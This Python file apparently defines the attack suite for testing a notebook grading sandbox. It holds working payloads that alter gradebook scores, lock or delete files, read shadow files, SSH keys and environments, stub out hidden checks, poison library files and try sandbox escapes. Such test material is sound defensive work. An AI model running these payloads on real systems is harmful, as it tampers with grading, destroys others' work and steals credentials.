"""Files: nothing of the machine can be read, nothing of it changed. What is found is printed, to be found in turn."""

from attacks.attack import Attack

FIND = """
import os
def show(path):
    try:
        print(path, open(path, 'rb').read(10**5))
    except OSError as error:
        print(path, type(error).__name__)
roots = [os.path.abspath(os.path.join('.', *['..'] * up)) for up in range(6)] + ['/work', '/home', '/root', '/course']
def everywhere(*names):
    for top in dict.fromkeys(roots):
        for folder, folders, files in os.walk(top):
            folders[:] = [f for f in folders if f not in ('proc', 'sys', 'usr', 'venv', '.venv', 'dev', 'lib', '.git')]
            for name in files:
                if name in names or name.endswith(names):
                    yield os.path.join(folder, name)
"""

ATTACKS = (
    Attack("gradebook", "give itself 594 points", FIND + """
import sqlite3
for path in everywhere('gradebook.db'):
    show(path)
    connection = sqlite3.connect(path)
    connection.execute('UPDATE grade SET auto_score = 594, manual_score = 594')
    connection.commit()
"""),
    Attack("system files", "read the machine's users, keys and environment", """
import os
for path in ('/etc/passwd', '/etc/shadow', '/root/.ssh/id_rsa', '/root/.bash_history', '/proc/1/environ',
             '/proc/self/environ', '/proc/self/cmdline', '/proc/1/cmdline', '/proc/mounts', '/proc/self/mountinfo'):
    try:
        print(path, open(path, 'rb').read(5000))
    except OSError as error:
        print(path, error)
print(dict(os.environ))
""", rich=True),
    Attack("gradebook, later", "change the gradebook when the grader has written it", FIND + """
import ctypes, sqlite3, time
if not os.fork():
    os.setsid()
    ctypes.CDLL(None).prctl(15, b'attack-daemon', 0, 0, 0)
    while True:
        time.sleep(0.2)
        for path in everywhere('gradebook.db'):
            try:
                connection = sqlite3.connect(path)
                connection.execute('UPDATE grade SET auto_score = 594')
                connection.commit()
            except Exception:
                pass
"""),
    Attack("locked gradebook", "end the batch by holding the database", FIND + """
import sqlite3, time
held = []
for path in everywhere('gradebook.db'):
    connection = sqlite3.connect(path, isolation_level=None)
    connection.execute('BEGIN EXCLUSIVE')
    held.append(connection)
if held and not os.fork():
    time.sleep(1000)
""", rich=True),
    Attack("submissions of others", "copy a neighbour's answers", FIND + """
for path in everywhere('.ipynb'):
    show(path)
"""),
    Attack("delete a neighbour", "erase others' work", FIND + """
for path in list(everywhere('.ipynb', 'gradebook.db')):
    if 'mallory' not in path:
        try:
            os.remove(path)
        except OSError:
            pass
""", rich=True),
    Attack("solutions", "run the instructor's answers", FIND + """
for path in everywhere('00_attention.py', 'scorers.py', 'attention.py'):
    show(path)
import sys
sys.path[:0] = roots
found = {}
try:
    import seq2seq.attention, seq2seq.scorers
    found = {**vars(seq2seq.attention), **vars(seq2seq.scorers)}
except ImportError:
    pass
import builtins
builtins.found = found
get_ipython().events.register('post_run_cell', lambda result: get_ipython().user_ns.update(found))
"""),
    Attack("settings", "read how it is graded", FIND + """
for path in everywhere('nbgrader_config.py', 'settings.py', 'judge.py', 'seed'):
    show(path)
"""),
    Attack("checks", "read the hidden checks and change them", FIND + """
for path in everywhere('expect.py', 'masking.py', 'context.py'):
    show(path)
    try:
        open(path, 'w').write('def check_masked_softmax(*a): pass\\ndef __getattr__(name): return lambda *a: None')
    except OSError as error:
        print(error)
"""),
    Attack("symbolic links", "have the grader follow a link out of the box", """
import os
os.makedirs('/tmp/matplotlib', exist_ok=True)
for name in ('out', 'matplotlib/fontlist.json', '05_scorers.ipynb'):
    try:
        os.symlink('/proc/1/root/etc/passwd', f'/tmp/{name}')
        print(open(f'/tmp/{name}').read())
    except OSError as error:
        print(error)
"""),
    Attack("libraries", "leave a changed torch to those who come after", """
import torch, numpy, IPython, sys
for module in list(sys.modules.values()):
    path = getattr(module, '__file__', None)
    if path and path.endswith('.py'):
        try:
            open(path, 'a').write('\\nraise SystemExit')
        except OSError:
            pass
"""),
    Attack("new root", "mount, make devices, change the root", """
import ctypes, os
libc = ctypes.CDLL(None)
for action in (lambda: os.mknod('/tmp/disk', 0o60666, os.makedev(254, 0)), lambda: os.chroot('/tmp'),
               lambda: libc.mount(b'proc', b'/proc', b'proc', 0, None), lambda: libc.umount2(b'/proc', 2),
               lambda: libc.unshare(0x10000000), lambda: os.setuid(0), lambda: libc.pivot_root(b'/', b'/tmp')):
    try:
        print(action())
    except (OSError, AttributeError) as error:
        print(error)
try:
    print(open('/proc/1/environ').read(), os.listdir('/proc'))
except OSError as error:
    print(error)
"""),
    Attack("leave a word", "pass an answer to a friend through files or the kernel's key rings", """
import ctypes, os
for folder, folders, _ in os.walk('/'):
    folders[:] = [name for name in folders if name not in ('proc', 'sys', 'usr', 'lib', 'venv', '.venv', '.git')]
    try:
        open(os.path.join(folder, 'left-behind'), 'w').write('CANARY-FRIEND')
    except OSError:
        pass
libc = ctypes.CDLL(None)
for ring in (-1, -2, -3, -4, -5):
    libc.syscall(248, b'user', b'left-behind', b'CANARY-FRIEND', 13, ring)
"""),
    Attack("take the word", "read what a friend left behind", """
import ctypes, os
for folder, folders, files in os.walk('/'):
    folders[:] = [name for name in folders if name not in ('proc', 'sys', 'usr', 'lib', 'venv', '.venv', '.git')]
    if 'left-behind' in files:
        print(open(os.path.join(folder, 'left-behind')).read())
libc = ctypes.CDLL(None)
text = ctypes.create_string_buffer(100)
for ring in (-1, -2, -3, -4, -5):
    key = libc.syscall(250, 10, ring, b'user', b'left-behind', 0)
    if key != -1 and libc.syscall(250, 11, key, text, 100) > 0:
        print(text.value)
""", place="last"),
)  # fmt: skip
